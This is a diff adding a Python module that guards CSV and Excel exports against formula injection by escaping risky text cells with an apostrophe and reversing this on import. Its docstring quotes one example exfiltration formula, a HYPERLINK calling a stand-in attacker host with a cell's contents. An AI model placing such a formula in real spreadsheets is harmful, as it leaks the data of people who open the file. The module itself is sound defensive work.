@@ -1,0 +1,142 @@
+"""Spreadsheet cells that cannot become formulas: the one rule every CSV and Excel writer and the import use.
+
+Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and after a tab or carriage
+return) as a formula, so a name like ``=HYPERLINK("http://evil.example/?x="&A1,"klik")`` in a download could
+send data away or run a command. Following OWASP's advice on CSV injection, such a text cell is written with
+one apostrophe before it: ``'=HYPERLINK(…)``, ``'+31 6 1234 5678``, ``'- eerste punt``.
+
+The rule is reversible, so the import template round-trips exactly:
+
+- written: a text starting with a trigger character gets one apostrophe before it; so does a text that already
+  starts with an apostrophe followed by a trigger or another apostrophe (``'=x`` is written as ``''=x``);
+- read: one leading apostrophe is dropped only when a trigger or another apostrophe follows it.
+
+Any other text is left alone both ways: ``'s-Hertogenbosch`` is written and read as ``'s-Hertogenbosch``.
+Numbers are never formulas and stay numbers. In Excel files every text cell is also stored with the string
+type, never as a formula.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import math
+import re
+from collections.abc import Iterable, Mapping
+from datetime import date, datetime
+from numbers import Number
+from typing import Any
+
+import pandas as pd
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+QUOTE = "'"
+# Characters an XLSX file cannot hold at all (XML 1.0); openpyxl refuses them.
+_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+_NOT_IN_SHEET_TITLE = re.compile(r"[\x00-\x1f\[\]:*?/\\]")
+
+
+def _escaped_by_quote(text: str) -> bool:
+    return len(text) > 1 and text[0] == QUOTE and (text[1] in TRIGGERS or text[1] == QUOTE)
+
+
+def neutralise(text: str) -> str:
+    """The text as a cell that no spreadsheet runs; :func:`restore` gives the text back."""
+    if text.startswith(TRIGGERS) or _escaped_by_quote(text):
+        return QUOTE + text
+    return text
+
+
+def restore(cell: str) -> str:
+    """The text a cell written by :func:`neutralise` (or typed the same way in a spreadsheet) stands for."""
+    return cell[1:] if _escaped_by_quote(cell) else cell
+
+
+def _is_empty(value: object) -> bool:
+    return value is None or value is pd.NA or value is pd.NaT or (isinstance(value, float) and math.isnan(value))
+
+
+def _is_number(value: object) -> bool:
+    return isinstance(value, bool | Number) and not isinstance(value, complex)
+
+
+def _safe_value(value: object) -> object:
+    """Empty cells and numbers as they are (a number is never a formula); anything else as neutralised text."""
+    if _is_empty(value) or _is_number(value) or isinstance(value, datetime | date):
+        return value
+    return neutralise(str(value))
+
+
+def _is_plain_column(column: pd.Series) -> bool:
+    types = pd.api.types
+    return bool(types.is_numeric_dtype(column) or types.is_bool_dtype(column) or types.is_datetime64_any_dtype(column))
+
+
+def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy whose text cells (and headings) are neutralised; numbers, dates and empty cells are kept."""
+    safe = frame.copy()
+    safe.columns = [neutralise(str(column)) for column in frame.columns]
+    for position in range(safe.shape[1]):
+        column = safe.iloc[:, position]
+        if not _is_plain_column(column):
+            safe.isetitem(position, column.astype(object).map(_safe_value).to_numpy())
+    return safe
+
+
+def csv_text(frame: pd.DataFrame) -> str:
+    """The table as CSV text with every text cell neutralised."""
+    return safe_frame(frame).to_csv(index=False)
+
+
+def csv_bytes(frame: pd.DataFrame) -> bytes:
+    return csv_text(frame).encode("utf-8")
+
+
+def csv_rows_text(header: Iterable[str], rows: Iterable[Mapping[str, object]]) -> str:
+    """CSV text for rows given as mappings (missing values empty), every text cell neutralised."""
+    columns = list(header)
+    buffer = io.StringIO(newline="")
+    writer = csv.writer(buffer, lineterminator="\n")
+    writer.writerow([neutralise(column) for column in columns])
+    for row in rows:
+        writer.writerow([_safe_value(row.get(column, "")) for column in columns])
+    return buffer.getvalue()
+
+
+def _excel_value(value: object) -> object:
+    if _is_empty(value):
+        return None
+    if _is_number(value):
+        return value
+    if isinstance(value, pd.Timestamp):
+        return value.to_pydatetime()
+    if isinstance(value, datetime | date):
+        return value
+    return _NOT_IN_XML.sub("\ufffd", neutralise(str(value)))
+
+
+def excel_bytes(sheets: Mapping[str, pd.DataFrame]) -> bytes:
+    """An XLSX workbook, one sheet per table; text cells are neutralised and typed as strings, never formulas."""
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+
+    workbook = Workbook(write_only=True)
+    for name, frame in sheets.items():
+        sheet = workbook.create_sheet(title=_NOT_IN_SHEET_TITLE.sub("-", name)[:31] or "sheet")
+        sheet.append(_typed_row(sheet, list(frame.columns), WriteOnlyCell))
+        for row in frame.itertuples(index=False, name=None):
+            sheet.append(_typed_row(sheet, list(row), WriteOnlyCell))
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def _typed_row(sheet: Any, values: list[object], cell_type: Any) -> list[Any]:
+    cells = []
+    for value in values:
+        converted = _excel_value(value)
+        cell = cell_type(sheet, value=converted)
+        if isinstance(converted, str):
+            cell.data_type = "s"  # openpyxl would otherwise store a text starting with "=" as a formula
+        cells.append(cell)
+    return cells
